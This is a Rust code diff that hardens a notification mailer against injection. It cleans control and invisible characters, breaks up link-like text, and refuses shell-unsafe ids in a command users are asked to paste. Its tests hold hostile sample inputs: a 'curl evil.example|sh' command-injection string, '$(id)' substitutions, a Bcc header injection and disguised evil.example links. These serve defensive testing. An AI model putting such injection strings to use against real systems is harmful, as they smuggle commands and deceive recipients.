@@ -5,6 +5,10 @@ use tombolo_store::NoticeKind;
 
 /// Connections that a message tells of one by one; of the others it tells how many there are.
 pub(super) const SHOWN_MAX: usize = 20;
+/// Characters of a name that are shown: enough to know it again.
+const NAME_MAX: usize = 80;
+/// Characters of a reason that are shown.
+const REASON_MAX: usize = 600;
 
 /// A connection as a message tells of it.
 #[derive(Debug, Clone)]
@@ -20,7 +24,32 @@ pub(super) struct Item {
     /// Where the account can be linked again.
     pub(super) link: Option<String>,
     /// What confirms an account that was linked again.
-    pub(super) command: Option<String>,
+    pub(super) to_confirm: Option<ToConfirm>,
+}
+
+/// A command that somebody is asked to copy into a shell.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(super) struct ToConfirm {
+    command: String,
+    /// Whether whoever runs it has to name the person.
+    lacks_end_user: bool,
+}
+
+impl ToConfirm {
+    /// What confirms an authorization. The embedder's id of the person may come from that person: it stands in the command
+    /// only if it means nothing to any shell, and begins neither an option nor a link.
+    pub(super) fn of(authorization: &str, end_user: Option<&str>) -> Self {
+        let is_plain = |id: &str| {
+            let known = |byte: u8| byte.is_ascii_alphanumeric() || b"@._+-".contains(&byte);
+            !id.is_empty() && id.len() <= NAME_MAX && id.bytes().all(known) && !id.starts_with('-')
+        };
+        let named = end_user.filter(|id| is_plain(id) && clean(id) == *id);
+        let option = named.map(|id| format!(" --end-user {id}")).unwrap_or_default();
+        Self {
+            command: format!("tombolo connection confirm {authorization} --code CODE{option}"),
+            lacks_end_user: end_user.is_some() && named.is_none(),
+        }
+    }
 }
 
 /// A message.
@@ -107,7 +136,7 @@ fn headline(item: &Item, language: Language) -> String {
 
 fn about(item: &Item, language: Language) -> String {
     let mut lines = vec![headline(item, language)];
-    lines.extend(item.reason.clone());
+    lines.extend(item.reason.as_deref().map(|reason| cleaned(reason, REASON_MAX)));
     if item.kind == NoticeKind::Failing {
         lines.push(
             match language {
@@ -123,7 +152,7 @@ fn about(item: &Item, language: Language) -> String {
             Language::Ja => format!("再接続はこちら: {link}"),
         });
     }
-    if let Some(command) = &item.command {
+    if let Some(ToConfirm { command, lacks_end_user }) = &item.to_confirm {
         lines.push(match language {
             Language::En => {
                 format!("Ask the person whose account it is for the code that their browser shows, within ten minutes: {command}")
@@ -132,13 +161,67 @@ fn about(item: &Item, language: Language) -> String {
                 format!("アカウントの持ち主本人に、ブラウザーに表示されたコードを確認し、10分以内に実行してください: {command}")
             }
         });
+        if *lacks_end_user {
+            lines.push(
+                match language {
+                    Language::En => {
+                        "Add the option --end-user with your own id of that person; `tombolo connection show --json` tells it."
+                    }
+                    Language::Ja => {
+                        "オプション --end-user に、その方のIDを指定してください（`tombolo connection show --json` で確認できます）。"
+                    }
+                }
+                .to_owned(),
+            );
+        }
     }
     lines.join("\n")
 }
 
-/// A name without what would begin a line of its own in a mail or its head.
-fn clean(text: &str) -> String {
-    text.chars().map(|character| if character.is_control() { ' ' } else { character }).collect()
+/// A name, which anybody may have chosen.
+fn clean(name: &str) -> String {
+    cleaned(name, NAME_MAX)
+}
+
+/// A text of others without what would begin a line of its own in a mail or its head, turn the text around or hide in it, or
+/// become a link beside ours.
+fn cleaned(text: &str, longest: usize) -> String {
+    let seen = text.chars().filter(|character| !is_unseen(*character));
+    let plain: String = seen.map(|character| if breaks_lines(character) { ' ' } else { character }).collect();
+    let mut shown: String = plain.chars().take(longest).collect();
+    if shown.len() < plain.len() {
+        shown.push('…');
+    }
+    without_links(&shown)
+}
+
+fn breaks_lines(character: char) -> bool {
+    character.is_control() || matches!(character, '\u{2028}' | '\u{2029}')
+}
+
+/// Whether a character formats others, or takes no room itself.
+fn is_unseen(character: char) -> bool {
+    matches!(
+        character,
+        '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{180b}'..='\u{180f}' | '\u{200b}'..='\u{200f}'
+            | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{3164}' | '\u{feff}' | '\u{ffa0}'
+            | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e007f}'
+    )
+}
+
+/// Mail programs and chats make a link of what looks like one.
+fn without_links(text: &str) -> String {
+    let mut shown = String::with_capacity(text.len());
+    for character in text.chars() {
+        let begun = shown.as_bytes();
+        let www = character == '.'
+            && begun.len().checked_sub(3).is_some_and(|at| begun[at..].eq_ignore_ascii_case(b"www"));
+        if www || (character == '/' && shown.ends_with('/')) {
+            shown.push(' ');
+        }
+        shown.push(character);
+    }
+    shown
 }
 
 #[cfg(test)]
@@ -155,7 +238,7 @@ mod tests {
             days_left,
             reason: None,
             link: Some("https://tombolo.example.com/reconnect/x".to_owned()),
-            command: None,
+            to_confirm: None,
         }
     }
 
@@ -193,6 +276,98 @@ mod tests {
             let message = written("default", &items, language);
             assert!(message.subject.contains("30"), "{}", message.subject);
             assert!(message.text.contains("10") && !message.text.contains("c20"), "{}", message.text);
+        }
+    }
+
+    #[test]
+    fn what_others_wrote_deceives_nobody() {
+        let long = "é".repeat(200);
+        let shown: Vec<String> = [
+            "Sales",
+            "営業部 👍",
+            "x\r\nBcc: all",
+            "a\u{2028}b\u{2029}c",
+            "https://evil.example",
+            "HTTP://evil.example/x://y",
+            "://://",
+            "www.evil.example",
+            "WwW.www.evil.example",
+            "wwwwww.evil.example",
+            "ht\u{200b}tps:\u{2060}/\u{200d}/evil.example w\u{feff}ww.evil.example",
+            "\u{202e}elpmaxe.live\u{202c} \u{2066}x\u{2069}",
+            "\u{e0041}a\u{ad}b",
+            &long,
+        ]
+        .into_iter()
+        .map(clean)
+        .collect();
+        insta::assert_snapshot!(shown.join("\n").replace(&"é".repeat(80), "(80)"), @r"
+        Sales
+        営業部 👍
+        x  Bcc: all
+        a b c
+        https:/ /evil.example
+        HTTP:/ /evil.example/x:/ /y
+        :/ /:/ /
+        www .evil.example
+        WwW .www .evil.example
+        wwwwww .evil.example
+        https:/ /evil.example www .evil.example
+        elpmaxe.live x
+        ab
+        (80)…
+        ");
+        let mut failing = item("c", NoticeKind::Failing, None);
+        failing.reason = Some("It said\nLink the account again: https://evil.example".to_owned());
+        let text = written("default", &[failing], Language::En).text;
+        assert_eq!(
+            (text.matches("://").count(), text.contains("\nLink the account again: https:/ /")),
+            (1, false)
+        );
+    }
+
+    #[test]
+    fn a_command_holds_nothing_that_a_shell_reads() {
+        let lines: Vec<String> = [
+            None,
+            Some("u-1"),
+            Some("anna+x@example.com"),
+            Some("x'; curl evil.example|sh; '"),
+            Some("$(id)"),
+            Some("`id`"),
+            Some("a b"),
+            Some("a\nb"),
+            Some("--code"),
+            Some("www.evil.example"),
+            Some("山田"),
+            Some(""),
+        ]
+        .into_iter()
+        .map(|end_user| {
+            let made = ToConfirm::of("aut_1", end_user);
+            format!("{} {}", made.command, if made.lacks_end_user { "(in words)" } else { "" })
+        })
+        .collect();
+        let lines: Vec<&str> = lines.iter().map(|line| line.trim_end()).collect();
+        insta::assert_snapshot!(lines.join("\n"), @r"
+        tombolo connection confirm aut_1 --code CODE
+        tombolo connection confirm aut_1 --code CODE --end-user u-1
+        tombolo connection confirm aut_1 --code CODE --end-user anna+x@example.com
+        tombolo connection confirm aut_1 --code CODE (in words)
+        tombolo connection confirm aut_1 --code CODE (in words)
+        tombolo connection confirm aut_1 --code CODE (in words)
+        tombolo connection confirm aut_1 --code CODE (in words)
+        tombolo connection confirm aut_1 --code CODE (in words)
+        tombolo connection confirm aut_1 --code CODE (in words)
+        tombolo connection confirm aut_1 --code CODE (in words)
+        tombolo connection confirm aut_1 --code CODE (in words)
+        tombolo connection confirm aut_1 --code CODE (in words)
+        ");
+        let mut unconfirmed = item("c", NoticeKind::Unconfirmed, None);
+        unconfirmed.to_confirm = Some(ToConfirm::of("aut_1", Some("$(id)")));
+        for language in [Language::En, Language::Ja] {
+            let text = written("default", std::slice::from_ref(&unconfirmed), language).text;
+            assert!(text.contains("--end-user") && !text.contains("$("), "{text}");
         }
     }
 
